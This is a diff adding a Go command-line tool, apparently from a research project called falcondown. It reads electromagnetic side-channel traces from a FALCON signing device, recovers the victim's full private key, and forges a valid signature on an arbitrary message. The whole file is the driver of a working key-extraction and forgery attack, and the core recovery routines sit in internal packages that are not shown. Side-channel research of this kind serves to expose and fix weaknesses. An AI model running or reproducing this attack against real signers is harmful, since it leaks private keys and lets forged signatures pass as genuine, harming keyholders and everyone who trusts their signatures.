@@ -1,0 +1,87 @@
+// Command attack runs the Falcon-Down key extraction on a trace file
+// produced by cmd/tracegen, reconstructs the full signing key from the
+// victim's public key, and demonstrates the break by forging a signature.
+//
+// Usage:
+//
+//	attack -traces traces.fdtr -pub victim.pub -msg "arbitrary text"
+package main
+
+import (
+	"flag"
+	"fmt"
+	"math/bits"
+	"os"
+
+	"falcondown/internal/codec"
+	"falcondown/internal/core"
+	"falcondown/internal/emleak"
+	"falcondown/internal/falcon"
+	"falcondown/internal/rng"
+)
+
+func main() {
+	tracePath := flag.String("traces", "traces.fdtr", "trace file from tracegen")
+	pubPath := flag.String("pub", "victim.pub", "victim public key")
+	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
+	sigOut := flag.String("sig", "forged.sig", "forged signature output")
+	flag.Parse()
+
+	if err := run(*tracePath, *pubPath, *msg, *sigOut); err != nil {
+		fmt.Fprintln(os.Stderr, "attack:", err)
+		os.Exit(1)
+	}
+}
+
+func run(tracePath, pubPath, msg, sigOut string) error {
+	f, err := os.Open(tracePath)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	n, obs, err := emleak.ReadObservations(f)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("loaded %d traces of a FALCON-%d victim\n", len(obs), n)
+
+	pb, err := os.ReadFile(pubPath)
+	if err != nil {
+		return err
+	}
+	logn := bits.Len(uint(n)) - 1
+	h, err := codec.DecodePublicKey(pb, logn)
+	if err != nil {
+		return err
+	}
+	params, err := falcon.ParamsForDegree(n)
+	if err != nil {
+		return err
+	}
+	pub := &falcon.PublicKey{Params: params, H: h}
+
+	fmt.Println("running divide-and-conquer extend-and-prune extraction...")
+	priv, report, err := core.RecoverKey(obs, pub, core.Config{})
+	if err != nil {
+		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
+	}
+	fmt.Printf("key recovered: %d/%d values extracted, weakest prune correlation %.3f, all significant at 99.99%%: %v\n",
+		len(report.Values), len(report.Values), report.MinPrune, report.Significant)
+
+	sig, err := priv.Sign([]byte(msg), rng.NewEntropy())
+	if err != nil {
+		return err
+	}
+	if err := pub.Verify([]byte(msg), sig); err != nil {
+		return fmt.Errorf("forged signature did not verify: %w", err)
+	}
+	enc, err := sig.Encode(logn, params.SigByteLen)
+	if err != nil {
+		return err
+	}
+	if err := os.WriteFile(sigOut, enc, 0o644); err != nil {
+		return err
+	}
+	fmt.Printf("forged a valid signature on %q with the victim's public key -> %s\n", msg, sigOut)
+	return nil
+}
